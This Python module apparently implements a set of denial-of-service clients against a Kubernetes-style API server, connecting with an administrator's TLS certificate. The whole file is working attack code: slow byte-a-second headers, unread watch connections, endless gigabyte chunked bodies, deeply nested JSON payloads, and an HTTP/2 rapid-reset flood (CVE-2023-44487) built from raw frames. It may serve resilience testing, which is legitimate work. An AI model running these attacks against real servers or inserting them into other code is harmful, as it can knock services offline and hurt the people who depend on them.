"""Clients that no server likes: slow ones, floods, bodies without end. Each runs until it is told to stop."""

import socket
import ssl
import struct
import threading
import time


class Rude:
    """Connections to one node's API, with an administrator's certificate."""

    def __init__(self, host, port, context):
        self.address, self.context = (host, port), context
        self.stop = threading.Event()

    def connect(self, alpn="http/1.1"):
        context = self.context(alpn)
        return context.wrap_socket(socket.create_connection(self.address, 10), server_hostname=self.address[0])

    def slow_heads(self, count=100):
        """Heads that come a byte a second."""
        held = [self.connect() for _ in range(count)]
        text = b"GET /api/v1/nodes HTTP/1.1\r\nHost: x\r\nX-Slow: "
        for n in range(10**6):
            for one in held:
                one.sendall(text[n:n + 1] or b"y")
            if self.stop.wait(1):
                break
        for one in held:
            one.close()

    def unread_watches(self, count=50):
        """Watches whose answers nobody reads."""
        held = [self.connect() for _ in range(count)]
        for one in held:
            one.sendall(b"GET /api/v1/configmaps?watch=true HTTP/1.1\r\nHost: x\r\n\r\n")
        self.stop.wait()
        for one in held:
            one.close()

    def endless_bodies(self):
        """A gigabyte in one body, again and again; returns how much of each was taken."""
        taken, piece = [], b"100000\r\n" + b"x" * (1 << 20) + b"\r\n"
        while not self.stop.is_set():
            one, sent = self.connect(), 0
            try:
                one.sendall(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                            b"Transfer-Encoding: chunked\r\n\r\n")
                while sent < 1 << 30 and not self.stop.is_set():
                    one.sendall(piece)
                    sent += 1 << 20
            except OSError:
                pass
            taken.append(sent)
            one.close()
        return taken

    def deep_bodies(self):
        """JSON that is nothing but brackets."""
        body = b'{"metadata":' + b"[" * 2_000_000
        head = (f"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode()
        codes = []
        while not self.stop.is_set():
            one = self.connect()
            one.sendall(head + body)
            codes.append(int(one.recv(4096).split()[1]))
            one.close()
        return codes

    def rapid_reset(self):
        """Streams that are begun and reset at once (CVE-2023-44487); returns how many."""
        count = 0
        path, host = b"/api/v1/nodes", b"x"
        block = b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(host)]) + host
        while not self.stop.is_set():
            one = self.connect("h2")
            try:
                one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                for stream in range(1, 200_000, 2):
                    one.sendall(frame(1, 5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8)))
                    count += 1
                    if self.stop.is_set():
                        break
            except OSError:
                # The server has had enough.
                time.sleep(0.01)
            one.close()
        return count


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def contexts(authority, pem):
    """Makes TLS contexts that prove who asks, for a protocol each."""

    def make(alpn):
        context = ssl.create_default_context(cadata=authority)
        context.load_cert_chain(pem)
        context.set_alpn_protocols([alpn])
        return context

    return make
